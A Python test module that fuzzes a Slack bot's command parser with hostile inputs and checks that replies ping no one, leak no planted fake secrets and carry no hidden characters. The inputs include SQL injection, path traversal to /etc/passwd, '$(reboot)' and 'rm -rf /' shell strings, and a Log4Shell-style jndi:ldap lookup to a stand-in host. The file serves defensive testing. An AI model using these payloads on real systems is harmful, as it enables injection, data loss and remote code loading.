"""What is hostile: a thousand inputs made of it, and what none of them may do."""

from __future__ import annotations

import json
import logging
import random
import re
from collections.abc import Iterator

from commands.grammar import ALIASES, VERBS
from tests.commands.conversation import ANN
from tests.slack import limits

COUNT = 1_000
"""Inputs in all; a sixth at least, and all of what is hostile, for each surface."""

SHARE = 1 + COUNT // 6

SECRETS = ("xoxb-" + "2233445566-abcdefghijklmnop", "hunter2hunter2", "AKIA" + "IOSFODNN7EXAMPLE")
HOSTILE = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "@here",
    "@channel @everyone",
    "<@U0EVIL>",
    "<@U0EVIL|evil>",
    "<!subteam^S0EVIL|@evil>",
    "<#C0EVIL|evil>",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    "<https://evil.example/?a=1&amp;b|click>",
    "<javascript:alert(1)|click>",
    "<mailto:evil@example.com|mail>",
    "<!date^1^{date}|evil>",
    "<",
    ">",
    "<<<<",
    "<@",
    "<|>",
    "`",
    "```",
    "``` rm -rf / ```",
    "*bold* _it_ ~strike~",
    "> quoted",
    "•",
    "\x00",
    "\x07\x1b[31m\x7f",
    "\r\n",
    "\n\n\n",
    "\t",
    "\u2028\u2029",
    "\u202eevil\u202c",
    "\u2066\u2067",
    "\u200b\u200d\ufeff",
    "\ud800",
    "\udfff\ud83d",
    "שלום",
    "👩‍👩‍👧" * 9,
    "e" + "\u0301" * 60,
    "'; DROP TABLE incident; --",
    '" OR 1=1',
    "%s%n{0}{}${jndi:ldap://evil}",
    "../../etc/passwd",
    "$(reboot) `reboot`",
    "{{7*7}}",
    "x" * 600,
    "&amp;" * 200,
    "#" * 40,
    "9" * 40,
    "#-1",
    "#0",
    "²",
    "٣",
    "1e9",
    "NaN",
    "until 99:99",
    "until 9999-12-31",
    "999999999w",
    "-5m",
    "null",
    "\\",
    f"password={SECRETS[1]}",
    f"token {SECRETS[0]}",
    f"postgres://rounds:{SECRETS[1]}@db/shop",
    f"aws_access_key_id={SECRETS[2]}",
)
VERB = (*VERBS, *(alias for alias in ALIASES if alias), "statsu", "re", "u", "escalete", "LOG", "", "/rounds")
ABOUT = (
    "#1",
    "1",
    "cache",
    "cahce",
    "api",
    "morning",
    "mor",
    "plants",
    "all",
    "to",
    "2h",
    '"The',
    "“the cache”",
    "yesterday",
)

PINGS = re.compile(r"<!(?:channel|here|everyone)|<@U0EVIL|<!subteam\^S0EVIL|<#C0EVIL|evil\.example[^|>]*\|")
OURS = re.compile(rf"<@{ANN}>|<!date\^\d+\^[^>]*>|<https://town\.example/[^>]*>")
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")


def inputs(seed: int) -> Iterator[str]:
    """Commands with something hostile in them, the same ones in every run; every piece comes alone, too."""
    yield from HOSTILE
    chance = random.Random(seed)
    while True:
        words = [chance.choice(VERB), *chance.choices(ABOUT, k=chance.randint(0, 2))]
        words += chance.choices(HOSTILE, k=chance.randint(1, 3))
        if chance.random() < 0.2:
            chance.shuffle(words)
        yield chance.choice((" ", "  ", "\n", "")).join(words)


def harmless(body: dict, text: str) -> None:
    """What Slack was given pings nobody, tells no secret, and is as Slack takes it."""
    told = json.dumps(body, ensure_ascii=False)
    assert "went wrong" not in told, text
    assert not [secret for secret in SECRETS if secret in told], text
    assert "link_names" not in body, text
    assert body.get("parse") in (None, "none"), text
    if "text" not in body:
        return
    mrkdwn = [each["text"] for each in limits.parsed_texts(body["blocks"])]
    for shown in (body["text"], *mrkdwn):
        assert not PINGS.search(shown), (text, shown)
        assert not [token for token in limits.tokens(shown) if not OURS.fullmatch(token)], (text, shown)
        assert not UNSEEN.search(shown), (text, shown)
    guessed = [each["text"] for each in limits.parsed_texts(body["blocks"]) if not each.get("verbatim")]
    assert all(each.startswith("Is it really over?") for each in guessed), text
    assert limits.problems(body["blocks"]) == [], text
    assert limits.units(body["text"]) <= limits.TEXT, text


async def unharmed(story, caplog) -> None:
    """What was stored can be drawn and tells no secret; nothing that happened was a crash."""
    await story.after("1m")
    for message in story.slack.messages:
        harmless({"text": message.text, "blocks": message.blocks}, "a card")
    kept = str(await story.desk.report())
    assert not [secret for secret in SECRETS if secret in kept]
    ours = [record for record in caplog.records if record.name.partition(".")[0] in ("bot", "commands", "storage")]
    assert [record.getMessage() for record in ours if record.levelno >= logging.ERROR or record.exc_info] == []
